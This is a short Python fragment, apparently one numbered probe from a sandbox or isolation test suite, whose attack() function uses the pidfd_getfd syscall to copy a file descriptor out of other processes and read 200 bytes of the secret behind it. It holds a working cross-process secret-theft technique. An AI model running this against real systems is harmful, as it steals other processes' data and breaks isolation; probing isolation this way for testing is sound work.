"""033 memory: take a descriptor out of another process by pidfd_getfd(2).

Evidence: secret - the text of the file behind it.
"""


def attack():
    def take(pid):
        stolen = syscall(438, os.pidfd_open(pid), TARGETS["victim_fd"], 0)
        return os.pread(stolen, 200, 0)

    return each_pid(take)
